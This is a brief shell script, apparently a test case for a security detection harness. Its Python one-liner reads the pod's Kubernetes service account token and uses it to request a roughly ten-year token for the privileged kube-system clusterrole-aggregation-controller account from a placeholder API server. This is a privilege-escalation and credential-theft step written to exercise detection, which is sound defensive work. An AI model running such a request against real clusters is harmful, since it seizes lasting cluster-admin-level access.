#!/bin/sh
. /opt/case/case.sh

python3 -c '
import json, urllib.request
own = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read().strip()
body = json.dumps({"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": {"audiences": ["api"], "expirationSeconds": 315360000}}).encode()
ask = urllib.request.Request("http://203.0.113.1:6443/api/v1/namespaces/kube-system/serviceaccounts/clusterrole-aggregation-controller/token", body, {"Authorization": "Bearer " + own, "Content-Type": "application/json"})
raise SystemExit(not urllib.request.urlopen(ask).read())'
took_place
